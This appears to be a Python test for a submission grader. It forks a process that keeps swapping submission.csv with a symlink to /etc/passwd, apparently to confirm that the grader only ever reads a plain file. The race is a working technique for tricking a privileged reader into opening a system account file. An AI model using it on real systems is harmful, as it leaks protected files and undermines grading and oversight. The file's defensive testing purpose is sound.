"""Swaps its table for a link to an account file thousands of times a second; only a plain file may ever be read."""

import os

from kit import HOST, hand_in

hand_in()
os.symlink("/etc/passwd", "/kaggle/working/link")
ready, told = os.pipe()
if os.fork() == 0:
    os.setsid()
    os.write(told, b".")
    while True:
        os.rename("/kaggle/working/submission.csv", "/kaggle/working/kept")
        os.rename("/kaggle/working/link", "/kaggle/working/submission.csv")
        os.rename("/kaggle/working/submission.csv", "/kaggle/working/link")
        os.rename("/kaggle/working/kept", "/kaggle/working/submission.csv")
os.read(ready, 1)
assert HOST["table"]
